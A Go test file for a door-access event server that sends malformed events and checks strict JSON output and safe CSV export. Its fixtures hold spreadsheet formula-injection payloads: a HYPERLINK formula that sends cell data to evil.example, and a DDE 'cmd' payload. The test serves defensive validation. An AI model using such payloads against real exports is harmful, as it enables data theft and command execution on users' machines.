package app_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/go-json-experiment/json/jsontext"

	"github.com/doorlog/doorlog/internal/ingest"
)

// TestCleanDataEveryAPI sends a device's worst over HTTP to the real
// server: a model with invalid UTF-8 and a lone surrogate escape, a model
// nested 40 deep, a time moved past year 9999 by its offset, a source_id
// that is not UTF-8, and a source_id that is a spreadsheet formula. The
// sender learns which items were refused and why; what was stored must
// then read as strict JSON from every API that serves it, and the CSV
// export must hold no cell a spreadsheet would evaluate.
func TestCleanDataEveryAPI(t *testing.T) {
	ts, secret := startGate(t)
	do := func(method, path, contentType, body string) (int, []byte) {
		t.Helper()
		req, _ := http.NewRequest(method, ts.URL+path, strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+secret)
		if contentType != "" {
			req.Header.Set("Content-Type", contentType)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		raw, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return resp.StatusCode, raw
	}

	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Open")`
	items := []string{
		`{"device_id":"` + gateDevice + `","time":"2024-05-01T10:00:00Z","key":"door_was_opened","source_id":"s1","model":{"lock":1,"note":"caf` + "\xe9" + ` \ud800"}}`,
		`{"device_id":"` + gateDevice + `","time":"2024-05-01T10:00:01Z","key":"door_was_opened","source_id":"s2","model":{"a":` + strings.Repeat("[", 39) + strings.Repeat("]", 39) + `}}`,
		`{"device_id":"` + gateDevice + `","time":"9999-12-31T23:30:00-01:00","key":"door_was_opened","source_id":"s3"}`,
		`{"device_id":"` + gateDevice + `","time":"2024-05-01T10:00:03Z","key":"door_was_opened","source_id":"s4` + "\xff" + `"}`,
		`{"device_id":"` + gateDevice + `","time":"2024-05-01T10:00:04Z","key":"door_was_opened","source_id":` + mustJSON(t, formula) + `,"model":{"lock":2}}`,
		`{"device_id":"` + gateDevice + `","time":"2024-05-01T10:00:05Z","key":"=cmd|' /C calc'!A0","source_id":"s6"}`,
	}
	status, raw := do("POST", "/v1/events", "application/x-ndjson", strings.Join(items, "\n"))
	if status != 200 {
		t.Fatalf("ingest: got %d %s, want 200", status, raw)
	}
	var res ingest.Result
	if err := json.Unmarshal(raw, &res); err != nil {
		t.Fatal(err)
	}
	wantRejected := map[int]string{
		1: "model is nested more than 32 levels deep",
		2: "time must be from 1970-01-01T00:00:00Z to 9999-12-31T23:59:59.999Z",
		3: "source_id must be valid UTF-8",
		5: "key must be",
	}
	if res.Accepted != 2 || len(res.Rejected) != len(wantRejected) {
		t.Fatalf("ingest: got %+v, want 2 accepted and items %v rejected", res, wantRejected)
	}
	for _, r := range res.Rejected {
		if !strings.Contains(r.Error, wantRejected[r.Index]) {
			t.Errorf("item %d: got rejection %q, want one saying %q", r.Index, r.Error, wantRejected[r.Index])
		}
	}

	strict := func(name string, b []byte) {
		t.Helper()
		if !jsontext.Value(b).IsValid(jsontext.AllowDuplicateNames(true)) {
			t.Errorf("%s: a strict JSON parser refuses %q", name, b)
		}
	}
	for _, ep := range []struct{ name, method, path, body string }{
		{"native list", "GET", "/v1/events?limit=100", ""},
		{"BAS-IP list", "GET", "/api/v1/log/items?limit=50", ""},
		{"BAS-IP list of the device", "GET", "/devices/" + gateDevice + "/api/v1/log/items?limit=50", ""},
		{"AIPIX logs", "GET", "/api/admin/v1/intercoms/" + gateDevice + "/logs?per_page=100", ""},
		{"OLOID activities", "POST", "/filterActivity", `{"limit":1000}`},
	} {
		status, body := do(ep.method, ep.path, "application/json", ep.body)
		if status != 200 {
			t.Fatalf("%s: got %d %s, want 200", ep.name, status, body)
		}
		strict(ep.name, body)
		if !bytes.Contains(body, []byte(`caf\ufffd`)) && !bytes.Contains(body, []byte("caf\uFFFD")) {
			t.Errorf("%s: got %s, want the repaired note in it", ep.name, body)
		}
	}
	status, body := do("GET", "/v1/events/export?format=ndjson", "", "")
	if status != 200 {
		t.Fatalf("NDJSON export: got %d %s", status, body)
	}
	for line := range bytes.SplitSeq(bytes.TrimSpace(body), []byte("\n")) {
		strict("NDJSON export", line)
	}

	status, body = do("GET", "/v1/events/export?format=csv", "", "")
	if status != 200 {
		t.Fatalf("CSV export: got %d %s", status, body)
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("CSV export: got %d rows (%v) in %q, want the header and 2 events", len(rows), err, body)
	}
	source := slices.Index(rows[0], "source_id")
	var sources []string
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV export: cell %s is %q, which a spreadsheet evaluates", rows[0][i], cell)
			}
		}
		sources = append(sources, row[source])
	}
	if sources[1] != "'"+formula {
		t.Errorf("CSV export: got source_id cell %q, want %q", sources[1], "'"+formula)
	}
}

func mustJSON(t testing.TB, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
